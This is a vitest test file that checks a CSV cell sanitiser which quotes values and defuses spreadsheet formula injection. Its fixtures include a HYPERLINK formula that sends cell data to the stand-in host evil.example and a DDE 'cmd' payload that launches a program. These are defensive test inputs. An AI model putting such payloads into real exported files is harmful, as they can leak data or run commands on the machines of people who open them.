import { describe, expect, it } from 'vitest'
import { csvCell } from '../../../src/main/engine/kernel/csv'

/**
 * CSV injection (OWASP): every cell is quoted, and a formula character (= + - @ tab CR) that starts
 * a cell, or starts a piece after ; (the list separator of Russian and Kazakh Excel) or | (DDE),
 * gets an apostrophe so the spreadsheet shows it as text.
 */
describe('csvCell: every cell quoted, formula starts neutralised after ; and | too', () => {
  it.each<[unknown, string]>([
    ['plain', '"plain"'],
    ['', '""'],
    [null, '""'],
    [undefined, '""'],
    [42, '"42"'],
    [{ reason: 'x' }, '"{""reason"":""x""}"'],
    ['say "hi", then go', '"say ""hi"", then go"'],
    ['line1\r\nline2', '"line1\r\nline2"'],
  ])('quotes %j', (value, expected) => {
    expect(csvCell(value)).toBe(expected)
  })

  it.each<[string, string]>([
    ['=1+1', `"'=1+1"`],
    ['+77012345678', `"'+77012345678"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
    ['\t=1', `"'\t=1"`],
    ['\r=1', `"'\r=1"`],
    ['a;=HYPERLINK("http://evil.example/?"&A1,"open")', `"a;'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`],
    ['=cmd|\'/c calc\'!A0', `"'=cmd|'/c calc'!A0"`],
    ['note|=cmd', `"note|'=cmd"`],
    ['x;+1;-2;@A1|=B1', `"x;'+1;'-2;'@A1|'=B1"`],
    ['a;\t=1', `"a;'\t=1"`],
    ['a; =1', `"a;' =1"`],
    [' =1', `"' =1"`],
    ['a=b;c', '"a=b;c"'],
    ['2026-03-10 call back; customer ok', '"2026-03-10 call back; customer ok"'],
  ])('neutralises %j', (value, expected) => {
    expect(csvCell(value)).toBe(expected)
  })
})
